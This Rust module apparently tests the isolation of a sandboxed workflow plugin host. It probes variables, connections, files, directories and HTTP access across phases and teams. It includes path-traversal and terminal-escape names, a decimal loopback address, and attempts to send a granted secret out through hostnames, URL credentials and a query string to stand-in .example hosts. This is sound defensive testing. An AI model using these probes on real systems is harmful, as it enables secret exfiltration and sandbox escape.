//! Every capability, asked for what is granted, what is granted to other phases only, what is granted to nobody, and
//! what another team has; and names, guessed.

use wasip2::http::types::Scheme;

use crate::{Phase, ask};

fn status(answer: String) -> String {
    answer.split(' ').next().unwrap_or_default().to_owned()
}

fn call(server: &str) -> String {
    status(ask::http(Scheme::Https, server, "/", None))
}

/// What was told in confidence is not repeated: it would be masked.
fn kept(answer: String) -> String {
    let refused = ["denied", "invalid", "limit", "unavailable", "nothing"];
    match refused.iter().any(|word| answer.starts_with(word)) {
        true => answer,
        false => "a value".to_owned(),
    }
}

/// A line for each function and case: `function | case | answer`.
fn sweep(phase: Phase) -> String {
    let own = phase.name();
    let mut lines = Vec::new();
    let mut tell = |function: &str, case: &str, answer: String| {
        lines.push(format!("{function} | {case} | {answer}"));
    };
    let (granted, elsewhere) = (format!("for-{own}"), format!("not-{own}"));
    let cases = [
        ("granted", granted.as_str()),
        ("granted to other phases", elsewhere.as_str()),
        ("not granted", "unknown"),
        ("another team's, granted to it", "theirs"),
        ("another team's, by a name granted here too", "same"),
    ];
    for (case, name) in cases {
        tell("variables.get", case, kept(ask::variable(name)));
        tell("connections.get", case, kept(ask::connection(name)));
        tell("sql.database.open", case, ask::database(name));
        tell("directories.find", case, ask::directory(name));
        let read = ask::file(std::fs::read_to_string(format!("/{name}/file.txt")));
        tell("a file", case, read);
        let server = format!("{name}.example");
        tell("outgoing-handler.handle", case, call(&server));
    }
    let none = "not granted, needs none";
    ask::say("reach", &format!("a line of the {own} phase"));
    tell("log.write", none, "done".to_owned());
    tell("log.write", "another team's", "cannot be named".to_owned());
    tell("xcom.pull", none, ask::pull("", "", "before"));
    tell(
        "xcom.pull",
        "another team's",
        ask::pull("theirs", "run", "before"),
    );
    tell("xcom.push", none, ask::push("key", "1"));
    tell("xcom.push", "another team's", "cannot be named".to_owned());
    lines.join("\n")
}

/// Names that might mean something of another team or of the host: a variable, a connection and a directory for each.
fn guesses() -> String {
    let names = [
        "bank",
        "alpha.bank",
        "../bank",
        "alpha/bank",
        "bank\u{1b}[2J",
        "",
    ];
    let mut told = Vec::new();
    for name in names {
        told.extend([
            ask::variable(name),
            ask::connection(name),
            ask::directory(name),
        ]);
    }
    for server in ["private.example", "bank.example", "2130706433"] {
        told.push(call(server));
    }
    told.join("|")
}

/// What was told in confidence, as a part of other names.
fn confided() -> String {
    let secret = ask::variable("granted");
    [
        ask::variable(&format!("{secret}.txt")),
        ask::connection(&secret),
        ask::directory(&format!("of/{secret}")),
        ask::pull(&secret, "run", &secret),
        ask::push(&secret, "1"),
        call(&format!("{secret}.example")),
        call(&format!("somebody:{secret}@private.example")),
        status(ask::http(
            Scheme::Https,
            "bank.example",
            &format!("/?key={secret}"),
            None,
        )),
    ]
    .join("|")
}

pub(crate) fn attack(phase: Phase, which: &str) -> String {
    match which {
        "sweep" => sweep(phase),
        "guesses" => guesses(),
        "confided" => confided(),
        other => format!("there is no reach `{other}`"),
    }
}
